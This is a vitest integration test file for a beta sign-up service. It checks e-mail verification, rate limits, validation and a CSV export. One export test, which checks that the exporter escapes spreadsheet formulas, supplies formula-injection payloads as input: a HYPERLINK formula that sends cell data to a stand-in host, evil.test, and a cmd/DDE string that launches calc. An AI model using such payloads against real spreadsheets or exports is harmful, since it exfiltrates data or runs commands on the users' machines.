import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ACCESS_CODE_PATTERN, BETA_MESSAGES } from '../../contracts/beta.js';
import { signupsCsv } from '../../server/features/beta/export.js';
import { createBetaRepository } from '../../server/features/beta/repository.js';
import { betaSignup } from '../factories/beta.js';
import { decoded, startSmtpReceiver } from '../helpers/smtp.js';
import { startTestServer, type TestServer } from '../helpers/server.js';

const valid = betaSignup();

describe('beta programme', () => {
  let smtp: Awaited<ReturnType<typeof startSmtpReceiver>>;
  let server: TestServer;
  let address = 0;

  beforeAll(async () => {
    smtp = await startSmtpReceiver();
    server = await startTestServer({ SMTP_URL: smtp.url, APP_URL: 'http://journeys.test' });
  });
  afterAll(async () => {
    await server?.close();
    await smtp?.close();
  });

  /** Each sign-up from its own address, so the limit of 10 an hour per address stays out of the way. */
  async function signup(body: object, remoteAddress = `10.0.0.${++address}`) {
    const response = await server.app.inject({
      method: 'POST',
      url: '/api/beta/signup',
      payload: body,
      remoteAddress,
    });
    return { status: response.statusCode, body: response.json() as Record<string, unknown> };
  }

  const verify = (query: Record<string, string>) =>
    fetch(`${server.url}/api/beta/verify-email?${new URLSearchParams(query)}`);

  /** The link of the latest mail sent to an address, as https://…/verify-email?token=…&email=… */
  async function mailedLink(email: string, count = 1) {
    const mails = await smtp.mailFor(email, count);
    const text = decoded(mails.at(-1)!);
    const link = /http:\/\/journeys\.test\/verify-email\?token=[\w-]+&email=[^\s"<]+/.exec(
      text,
    )?.[0];
    expect(link).toBeDefined();
    return { url: new URL(link!.replaceAll('&amp;', '&')), text };
  }

  it('signs up without an e-mail: 201 with a readable access code and no mail', async () => {
    const { status, body } = await signup(valid);
    expect(status).toBe(201);
    expect(body.accessCode).toMatch(ACCESS_CODE_PATTERN);
    expect(body.verificationSent).toBe(false);
    const stored = await server.database.db
      .selectFrom('betaSignups')
      .selectAll()
      .where('accessCode', '=', body.accessCode as string)
      .executeTakeFirstOrThrow();
    expect(stored.phone).toBe('+14155550132');
    expect(stored.email).toBeNull();
  });

  it('mails a link that verifies, with the same access code; a second click still verifies', async () => {
    const email = 'Grace.Hopper@Example.org';
    const { status, body } = await signup({ ...valid, email });
    expect(status).toBe(201);
    expect(body.verificationSent).toBe(true);
    const { url, text } = await mailedLink(email);
    expect(text).toContain(body.accessCode as string);
    expect(text).toContain('valid for 24 hours');
    expect(text).toContain('What happens next');
    expect(text).toMatch(/Content-Type: text\/html/i);
    expect(url.searchParams.get('email')).toBe(email);

    const query = Object.fromEntries(url.searchParams);
    const first = await verify(query);
    expect(first.status).toBe(200);
    expect(await first.json()).toEqual({ verified: true, accessCode: body.accessCode });
    const again = await verify(query);
    expect(await again.json()).toEqual({ verified: true, accessCode: body.accessCode });

    // Only the token's hash is stored.
    const token = await server.database.db
      .selectFrom('betaVerificationTokens')
      .selectAll()
      .executeTakeFirstOrThrow();
    expect(JSON.stringify(token)).not.toContain(query.token);
  });

  it('answers a registered e-mail from anyone else as a new sign-up, and mails the registrant a new link', async () => {
    const email = 'twice@example.org';
    const first = await signup({ ...valid, email });
    const { url: firstLink } = await mailedLink(email);
    const again = await signup({ ...valid, firstName: 'Mallory', email: 'TWICE@example.org' });
    // Nothing in the answer says the address was taken.
    expect(again.status).toBe(201);
    expect(Object.keys(again.body).sort()).toEqual(Object.keys(first.body).sort());
    expect(again.body.verificationSent).toBe(true);
    expect(again.body.accessCode).toMatch(ACCESS_CODE_PATTERN);
    expect(again.body.accessCode).not.toBe(first.body.accessCode);

    // Nothing stored for the repeat: the registrant's sign-up is as it was.
    const stored = await server.database.db
      .selectFrom('betaSignups')
      .selectAll()
      .where((eb) =>
        eb.or([eb('emailKey', '=', email), eb('accessCode', '=', again.body.accessCode as string)]),
      )
      .execute();
    expect(stored).toEqual([
      expect.objectContaining({ firstName: 'Ada', accessCode: first.body.accessCode }),
    ]);

    // The registrant gets a new link with their own code, not the repeat's.
    const { url: fresh, text } = await mailedLink(email, 2);
    expect(text).toContain(first.body.accessCode as string);
    expect(text).not.toContain(again.body.accessCode as string);
    expect(fresh.searchParams.get('token')).not.toBe(firstLink.searchParams.get('token'));
    expect((await verify(Object.fromEntries(fresh.searchParams))).status).toBe(200);
  });

  it('mails a verified registrant a note with their access code, at most once an hour', async () => {
    const email = 'confirmed@example.org';
    const first = await signup({ ...valid, email });
    const { url } = await mailedLink(email);
    expect((await verify(Object.fromEntries(url.searchParams))).status).toBe(200);

    expect((await signup({ ...valid, email })).status).toBe(201);
    const note = decoded((await smtp.mailFor(email, 2))[1]!);
    expect(note).toContain('You are already signed up');
    expect(note).toContain(first.body.accessCode as string);
    expect(note).not.toContain('/verify-email');

    // A third try within the hour mails nothing: a later mail to another address arrives alone.
    expect((await signup({ ...valid, email })).status).toBe(201);
    await signup({ ...valid, email: 'marker@example.org' });
    await smtp.mailFor('marker@example.org');
    expect(await smtp.mailFor(email)).toHaveLength(2);
  });

  it('says "already registered" (409) only to the visitor who signed up with the address', async () => {
    const payload = { ...valid, email: 'mine@example.org' };
    const remoteAddress = `10.0.0.${++address}`;
    const first = await server.app.inject({
      method: 'POST',
      url: '/api/beta/signup',
      payload,
      remoteAddress,
    });
    expect(first.statusCode).toBe(201);
    const sid = first.cookies.find((cookie) => cookie.name === 'sid')!;
    const again = await server.app.inject({
      method: 'POST',
      url: '/api/beta/signup',
      payload: { ...payload, email: 'MINE@example.org' },
      cookies: { sid: sid.value },
      remoteAddress,
    });
    expect(again.statusCode).toBe(409);
    expect(again.json<{ message: string }>().message).toContain('already registered');
  });

  it('answers every rule of the registration schema with its message, and stores nothing', async () => {
    const { status, body } = await signup({
      ...valid,
      firstName: ' ',
      lastName: '',
      phone: '',
      email: 'not-an-address',
      agreedToTerms: false,
      agreedToPrivacy: false,
      agreedToDataProcessing: false,
      agreedToFeedback: false,
    });
    expect(status).toBe(400);
    const messages = Object.fromEntries(
      (body.errors as { path: string; message: string }[]).map((e) => [e.path, e.message]),
    );
    expect(messages).toEqual(BETA_MESSAGES);
    expect((await signup({ ...valid, preferredContact: 'pigeon' })).body.errors).toEqual([
      expect.objectContaining({ path: 'preferredContact' }),
    ]);
    expect((await signup({ ...valid, travelFrequency: 'daily' })).status).toBe(400);
    expect((await signup({ ...valid, budgetRange: 'lots' })).status).toBe(400);
    const badPhone = await signup({ ...valid, phone: '12' });
    expect(badPhone.body.errors).toEqual([
      { path: 'phone', message: 'Please enter a valid phone number for US' },
    ]);
    const count = await server.database.db
      .selectFrom('betaSignups')
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .where('firstName', '=', ' ')
      .executeTakeFirstOrThrow();
    expect(Number(count.n)).toBe(0);
  });

  it('applies the registration schema defaults when the fields are left out', async () => {
    const {
      preferredContact: _p,
      smsNotifications: _s,
      travelInterests: _t,
      countryCode: _c,
      ...minimal
    } = valid;
    const { status, body } = await signup(minimal);
    expect(status).toBe(201);
    const stored = await server.database.db
      .selectFrom('betaSignups')
      .selectAll()
      .where('accessCode', '=', body.accessCode as string)
      .executeTakeFirstOrThrow();
    expect(stored.countryCode).toBe('US');
    expect(JSON.parse(stored.profile)).toMatchObject({
      preferredContact: 'both',
      smsNotifications: false,
      emailNotifications: true,
      marketingEmails: false,
      feedbackReminders: true,
    });
  });

  it('answers a wrong or missing token with 400 and an expired one with 410', async () => {
    expect((await verify({ email: 'x@example.org' })).status).toBe(400);
    const email = 'late@example.org';
    await signup({ ...valid, email });
    const { url } = await mailedLink(email);
    const wrong = await verify({ token: 'nope', email });
    expect(wrong.status).toBe(400);
    expect(await wrong.json()).toMatchObject({ verified: false, error: expect.any(String) });

    // The clock moves past the 24 hours: the stored expiry is set in the past.
    await server.database.db
      .updateTable('betaVerificationTokens')
      .set({ expiresAt: new Date(Date.now() - 1000).toISOString() })
      .execute();
    const expired = await verify(Object.fromEntries(url.searchParams));
    expect(expired.status).toBe(410);
    const result = (await expired.json()) as { verified: boolean; error: string };
    expect(result.verified).toBe(false);
    expect(result.error).toContain('expired');
  });

  it('replaces the link on resend: the old one stops working, the new one verifies', async () => {
    const email = 'again@example.org';
    await signup({ ...valid, email });
    const { url: old } = await mailedLink(email);
    const resend = await fetch(`${server.url}/api/beta/resend-verification`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ email }),
    });
    expect(resend.status).toBe(200);
    const { url: fresh } = await mailedLink(email, 2);
    expect(fresh.searchParams.get('token')).not.toBe(old.searchParams.get('token'));
    expect((await verify(Object.fromEntries(old.searchParams))).status).toBe(400);
    expect((await verify(Object.fromEntries(fresh.searchParams))).status).toBe(200);
  });

  it('answers a resend the same way for an unknown address, and limits resends to 3 an hour', async () => {
    const post = (email: string) =>
      fetch(`${server.url}/api/beta/resend-verification`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ email }),
      });
    const known = await (await post('again@example.org')).json();
    const unknown = await post('nobody@example.org');
    expect(unknown.status).toBe(200);
    expect(await unknown.json()).toEqual(known);
    await post('nobody@example.org');
    await post('nobody@example.org');
    const limited = await post('NOBODY@example.org');
    expect(limited.status).toBe(429);
    expect(Number(limited.headers.get('retry-after'))).toBeGreaterThan(0);
    expect((await post('someone-else@example.org')).status).toBe(200);
  });

  it('exports the sign-ups as CSV with their verified state', async () => {
    const rows = await createBetaRepository(server.database.db).all();
    const lines = signupsCsv(rows).trim().split('\n');
    expect(lines[0]).toMatch(
      /^"createdAt","firstName","lastName","phone","countryCode","email","verified",/,
    );
    expect(lines).toHaveLength(rows.length + 1);
    expect(lines.find((l) => l.includes('Grace.Hopper@Example.org'))).toMatch(/,"yes",/);
    expect(lines.find((l) => l.includes('late@example.org'))).toMatch(/,"no",/);
    expect(lines.find((l) => l.includes('Grace.Hopper'))).toContain('"parks;historic"');
  });

  it('exports cells a spreadsheet would run as formulas as text, keeping phone numbers as stored', async () => {
    const hostile = {
      ...valid,
      firstName: '=HYPERLINK("http://evil.test/?"&A1,"Click")',
      lastName: '@SUM(1+1)',
      email: 'formula@example.org',
      referralSource: "+1+cmd|' /C calc'!A0",
    };
    expect((await signup(hostile)).status).toBe(201);
    const row = (await createBetaRepository(server.database.db).all()).find(
      (r) => r.email === hostile.email,
    )!;
    const line = signupsCsv([row]).trim().split('\n')[1]!;
    expect(line).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1,""Click"")"`);
    expect(line).toContain(`"'@SUM(1+1)"`);
    expect(line).toContain(`"'+1+cmd|' /C calc'!A0"`);
    // The E.164 phone is a plain number: nothing to run, and kept as stored for other readers.
    expect(line).toContain('"+14155550132"');
    // Every field quoted: a spreadsheet splitting at ";" cannot start a formula mid-field.
    expect(line).toMatch(/^(?:"(?:[^"]|"")*")?(?:,(?:"(?:[^"]|"")*")?)*$/);

    // What the wizard trims away can still be in the database: tab, carriage return, minus.
    const cells = (values: Partial<typeof row>) =>
      signupsCsv([{ ...row, ...values }])
        .trim()
        .split('\n')[1]!;
    expect(cells({ firstName: '\t=1+1', lastName: '\r-2+3' })).toContain(`"'\t=1+1","'\r-2+3"`);
    expect(cells({ firstName: ' =1+1', lastName: '-12.5' })).toContain(`"' =1+1","-12.5"`);
  });

  it('limits sign-ups to 10 an hour from one address', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 11; i++) statuses.push((await signup(valid, '192.0.2.7')).status);
    expect(statuses.slice(0, 10).every((s) => s === 201)).toBe(true);
    expect(statuses[10]).toBe(429);
  });
});

describe('beta programme without SMTP', () => {
  it('writes the verification mail to DATA_DIR/outbox', async () => {
    const server = await startTestServer();
    try {
      const response = await fetch(`${server.url}/api/beta/signup`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ ...valid, email: 'outbox@example.org' }),
      });
      expect(response.status).toBe(201);
      const { readdir, readFile } = await import('node:fs/promises');
      const outbox = `${server.dataDir}/outbox`;
      // Written by the mail job, soon after the answer.
      await expect.poll(() => readdir(outbox).catch(() => []), { timeout: 10_000 }).toHaveLength(1);
      const [file] = await readdir(outbox);
      expect(file).toMatch(/\.eml$/);
      const raw = await readFile(`${outbox}/${file}`, 'utf8');
      expect(decoded({ to: [], raw })).toContain('/verify-email?token=');
    } finally {
      await server.close();
    }
  });
});
